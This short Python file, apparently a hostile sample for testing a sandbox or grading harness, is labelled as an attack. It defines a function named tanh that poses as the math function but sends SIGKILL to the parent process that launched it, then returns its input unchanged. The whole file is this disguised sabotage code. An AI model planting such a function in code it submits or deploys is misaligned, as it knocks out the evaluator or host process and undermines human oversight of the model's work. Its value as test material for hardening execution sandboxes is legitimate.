"""Attack: kill the worker that started this process."""

import os
import signal


def tanh(x):
    os.kill(os.getppid(), signal.SIGKILL)
    return x
